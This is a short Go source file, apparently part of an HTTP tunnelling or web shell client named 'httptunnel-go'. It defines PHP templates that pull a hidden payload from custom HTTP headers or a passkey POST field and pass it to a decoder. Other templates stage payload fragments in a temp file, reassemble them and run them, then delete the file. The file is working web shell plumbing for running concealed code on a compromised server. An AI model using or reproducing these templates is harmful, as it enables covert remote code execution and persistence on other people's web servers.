package tunnel

import (
	"httptunnel-go/internal/model"
)

// Forwarders run from the passkey header. They gather the transmitted data
// into $x and hand it to the payload decoder substituted for "%s".
var forwarderTemplates = map[string]string{
	// Payload headers arrive as HTTP_ZZAA, HTTP_ZZAB, ...; ksort restores their order.
	model.MethodGet:  `$h=[];foreach($_SERVER as $k=>$v)if(!strncmp($k,'HTTP_ZZ',7))$h[$k]=$v;ksort($h);$x=implode($h);%s;`,
	model.MethodPost: `$x=$_POST['%%PASSKEY%%'];%s;`,
}

// Multipart pipes, prefixed with the temp file marker ($f=...). The starter
// creates the temp file, the sender appends to it, and the reader appends the
// last fragment then runs the reassembled payload through its decoder.
const (
	starterTemplate = `file_put_contents($f,'DATA');echo 1;`
	senderTemplate  = `file_put_contents($f,'DATA',FILE_APPEND);echo 1;`
	readerTemplate  = `file_put_contents($f,'DATA',FILE_APPEND);$x=file_get_contents($f);@unlink($f);%s;`
)

// dataPlaceholder is replaced by a chunk of payload data in multipart pipes.
const dataPlaceholder = "DATA"
